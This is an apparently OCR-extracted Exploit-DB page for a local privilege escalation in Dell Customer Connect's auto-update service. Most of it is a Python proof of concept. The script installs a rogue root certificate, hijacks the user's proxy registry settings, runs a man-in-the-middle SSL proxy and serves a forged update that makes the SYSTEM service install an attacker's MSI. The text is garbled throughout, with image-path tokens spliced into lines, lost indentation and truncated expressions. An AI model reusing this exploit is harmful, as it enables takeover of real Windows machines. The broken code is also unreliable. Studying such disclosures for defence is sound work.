Dell Customer Connect - Privilege Escalation

EDB-ID: 41917
Author: Kacper Szurek
Published: 2017-04-25
Type: Local
Platform: Windows
Vulnerable App: N/A

 # Date: 25.04.2017
# Software Link:
# Exploit Author: Kacper Szurek
# Contact:
# Website:
# Category: local1. Description

DCCService.exe is running on autostart as System.

This service has auto update functionality.

Basically it periodically checks looking for new config file.

Under normal conditions we cannot spoof this connection because it’s SSL.

But here WebUtils.sendWebRequest() is executed using Impersonator.RunImpersonated().

RunImpersonated() executes given function in the context of currently logged in user.

In Windows system we can add any certificate to Local user root store.Then this certificate is considered as trusted so we can perform MITM attack.

It can be done using simple proxy server because by default .NET HttpWebRequest() uses IE proxy settings (which can by set by any user without administrator priveleges).

2. Proof of Concept

from _winreg import *
from threading import Thread
import os
import subprocess
import hashlib
import SimpleHTTPServer
import SocketServer
import ssl
import httplib
import timemsi_file = "exploit.msi"
cert_file = "otbs.crt"
signing_file = "code.cer"
file_port = 5555
proxy_port = 7777

print "Dell Customer Connect Privilege Escalation"
print "by Kacper Szurek"
print ""
print ""

# Simpe SSL proxy based on
class ProxyHandler(SocketServer.StreamRequestHandler):
def __init__(self, request, client_address, server):
SocketServer.StreamRequestHandler.__init__(self, request, client_address, server)

def handle(self):
global xml
line = self.rfile.readline()
for l in self.rfile:
if l == "\r\n":

if "GET /api/AppConfig" in line:
conn = httplib.HTTPSConnection(, self.port)
print "\n[+] Send XML to service"
self.wfile.write("HTTP/1.1 200 200\r\n\r\n"+xml)
elif "CONNECT" in line:
socket_ssl = ssl.wrap_socket(self.request, server_side = True, certfile = cert_file, ssl_version = ssl.PROTOCOL_SSLv23, do_handshake_on_connect = False)
self.request.send("HTTP/1.1 200 Connection Established\r\n\r\n")
host, port = self.request.getpeername() = host
self.port = port
while True:
except (ssl.SSLError, IOError):
print "\n[+] SSL Established with"
self.request = socket_ssl

class ThreadedHTTPProxyServer(SocketServer.ThreadingMixIn, SocketServer.TCPServer):

def add_to_store(name, file):
output = subprocess.Popen('certutil -user -addstore "Root" "{}"'.format(file), stdout=subprocess.PIPE).communicate()[0]
if "\"{}\" already in store".format(name) in output:
print "[+] Certificate {} already in store".format(name)
elif "\"{}\" added to store".format(name) in output:
print "[+] Add certificate {} to user root store".format(name)
print "[-] You need to click OK in order to add cert to user root store"

if not os.path.isfile(cert_file):
print "[-] Missing SSL file"

if not os.path.isfile(signing_file):
print "[-] Missing code signing file"add_to_store("", cert_file)
add_to_store("dell inc", signing_file)

def sha256_checksum(filename, block_size=65536):
sha256 = hashlib.sha256()
with open(filename, 'rb') as f:
for block in iter(lambda:, b''):
return sha256.hexdigest()

def file_server():
Handler = SimpleHTTPServer.SimpleHTTPRequestHandler
httpd = SocketServer.TCPServer(("", file_port), Handler)

if not os.path.isfile(msi_file):
print "[-] Missing msi file"

sha256 = sha256_checksum(msi_file)print "[+] MSI hash: {}".format(sha256)

print "[+] Set Proxy Server in registry"
key = OpenKey(HKEY_CURRENT_USER, r'Software\Microsoft\Windows\CurrentVersion\Internet Settings', 0, KEY_ALL_ACCESS)
SetValueEx(key, "ProxyServer", 0, REG_SZ, "{}".format(proxy_port))
SetValueEx(key, "ProxyEnable", 0, REG_DWORD, 1)

print "[+] Start file server on port {}".format(file_port)
t1 =Thread(target = file_server)
t1.daemon = True

xml = "<UpdateResponse xmlns:xsd=\"\" xmlns:xsi=\"\"><LatestVersion></LatestVersion><UpgradeUrl>http://localhost:{}/{}</UpgradeUrl><UpgradeHash>{}</UpgradeHash><SurveyCheckInterval>1</SurveyCheckInterval></UpdateResponse>".format(file_port, msi_file, sha256)

print "[+] Start proxy server on port {}".format(proxy_port)
proxy_server = ThreadedHTTPProxyServer(("", proxy_port), ProxyHandler)
t2 = Thread(target = proxy_server.serve_forever)
t2.daemon = Truelog_path = r"C:\Users\All Users\Dell\Dell CustomerConnect\Logs\{}_install_log.txt".format(msi_file)print "[+] Waiting for execution ",

while True:
ifos.path.isfile(log_path):
print "\n[+] Looks like msi file was executed,exiting"
print ".",

3. Fix

Related Posts